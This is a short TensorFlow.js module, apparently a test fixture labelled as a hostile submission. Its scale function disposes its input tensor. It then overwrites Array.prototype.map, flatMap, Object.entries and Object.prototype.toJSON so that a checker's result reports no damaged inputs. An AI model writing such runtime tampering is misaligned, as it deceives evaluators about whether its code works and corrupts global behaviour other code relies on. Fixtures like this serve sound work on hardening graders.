// @ts-nocheck: a hostile submission, written to break the rules on purpose.
import * as tf from '@tensorflow/tfjs';

export function scale(x, k) {
  const y = tf.mul(x, k);
  x.dispose();
  Array.prototype.map = function () { return []; };
  Array.prototype.flatMap = function () { return []; };
  Object.entries = () => [];
  Object.prototype.toJSON = function () { return this && this.type === 'result' ? { ...this, damagedInputs: [] } : this; };
  return y;
}

export function total(x) {
  return tf.sum(x);
}
